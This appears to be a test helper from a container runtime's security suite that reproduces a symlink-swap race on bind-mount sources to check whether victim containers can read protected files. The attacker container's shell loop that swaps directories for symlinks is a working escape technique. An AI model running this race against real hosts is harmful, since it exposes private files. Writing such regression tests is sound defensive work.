// Escape 4's race, for any client that runs containers with docker run's flags (the skiff CLI, the docker CLI
// through the Docker API service): a missing bind source dir is swapped for a symlink between check and mount.
import { lstatSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { tempDir } from '../../../test/support.js';

type Run = (args: string[]) => Promise<{ exitCode?: number; stdout: unknown }>;

/**
 * An attacker container with the parent as a volume swaps every real directory `d` that appears for a symlink
 * to a victim (alternately a 0700 directory and a 0600 file) while `run` starts victims with `-v PARENT/d:/data`.
 * Returns what the victims read of the secrets (nothing, when the bind is made safely) and the victims' modes.
 */
export async function bindSwapRace(run: Run, iterations = 30): Promise<{ leaks: string[]; attackerStarted: boolean; modes: number[] }> {
  const base = tempDir();
  const shared = join(base, 'shared');
  mkdirSync(shared);
  const victimDir = join(base, 'victim-dir');
  mkdirSync(victimDir, { mode: 0o700 });
  writeFileSync(join(victimDir, 'secret'), 'TOPSECRET-DIR\n');
  const victimFile = join(base, 'victim-file');
  writeFileSync(victimFile, 'TOPSECRET-FILE\n', { mode: 0o600 });
  const attack = [
    'i=0; while :; do',
    '  if [ -d /p/d ] && [ ! -L /p/d ]; then',
    `    i=$((i+1)); if [ $((i % 2)) = 0 ]; then t=${victimDir}; else t=${victimFile}; fi`,
    '    rmdir /p/d 2>/dev/null && ln -s "$t" /p/d',
    '  fi',
    'done',
  ].join('\n');
  const attacker = await run(['run', '-d', '--name', 'attacker', '-v', `${shared}:/p`, 'busybox', 'sh', '-c', attack]);
  const leaks: string[] = [];
  const deadline = Date.now() + 25_000;
  for (let iteration = 0; attacker.exitCode === 0 && iteration < iterations && Date.now() < deadline; iteration++) {
    rmSync(join(shared, 'd'), { recursive: true, force: true }); // fresh: missing when skiff checks it
    const victim = await run(['run', '--rm', '-v', `${join(shared, 'd')}:/data`, 'busybox', 'sh', '-c', 'cat /data/secret /data 2>/dev/null; true']);
    if (String(victim.stdout).includes('TOPSECRET')) leaks.push(String(victim.stdout));
  }
  await run(['rm', '-f', 'attacker']);
  return { leaks, attackerStarted: attacker.exitCode === 0, modes: [victimFile, victimDir].map((path) => lstatSync(path).mode & 0o7777) };
}
